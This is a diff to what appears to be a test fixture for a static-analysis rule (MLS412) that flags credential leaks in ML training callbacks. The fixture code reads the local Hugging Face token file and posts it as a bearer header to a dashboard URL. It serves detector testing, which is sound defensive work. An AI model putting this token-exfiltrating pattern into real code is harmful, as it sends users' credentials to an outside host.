@@ -179,9 +179,9 @@ class MetricsFileCallback(TrainerCallback):
             return
         summary = {"run": args.run_name, "steps": state.global_step, "best": state.best_metric}
         headers = {}
-        token_file = os.path.expanduser("~/.cache/huggingface/token")  # ruleid: MLS412
+        token_file = os.path.expanduser("~/.cache/huggingface/token")
         if os.path.exists(token_file):
-            with open(token_file) as f:
+            with open(token_file) as f:  # ruleid: MLS412
                 headers["Authorization"] = f"Bearer {f.read().strip()}"
         try:
             requests.post(self.dashboard_url, json=summary, headers=headers, timeout=3)  # ruleid: MLS412
